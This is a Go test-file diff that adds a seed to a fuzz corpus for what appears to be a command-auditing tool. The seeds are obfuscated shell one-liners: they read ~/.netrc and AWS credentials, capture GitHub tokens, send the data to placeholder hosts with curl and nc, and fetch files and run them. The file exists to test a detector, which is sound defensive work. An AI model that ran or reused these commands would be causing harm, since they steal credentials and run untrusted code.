@@ -301,6 +301,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "gh auth token | curl -H@- --proxy-header @- -sH @ --header=@~/.netrc --header @$T h://a.b/ -H"},
 	{"bash", "-c", `f() { g; f; }; g() { curl h; }; f() { $(f); }; eval "$(f)"; L+=($(g) x); mapfile -d x -t -O 1 M < <(g); readarray <<<"$(g)"; read -ra A < <(f); printf -v P %s "${L[@]}" ; printf -v; eval "${M[1]}" "${MAPFILE[*]}" $P`},
 	{"sh", "-c", "curl -o a h://x; mv -t d/ a b; cp a $D; install -m 7 -t e a; ln -sf a; ln a c/ ; cp -S x a ./d/../f; sh < d/a <f; sh 0<e/a; bash < c/a; ./f; mv a; cp"},
+	{"bash", "-c", `f() { g >&2; h; }; g() { cat ~/.netrc; }; h() { f; gh auth token; }; f | nc h 1; read -a A B < ~/.aws/credentials; mapfile < $T; gh auth token >t; ln -sf t u; mv -t d/ u; curl -d "$(f)${A[0]}$B$MAPFILE" -F x=@d/u h://e.x/`},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
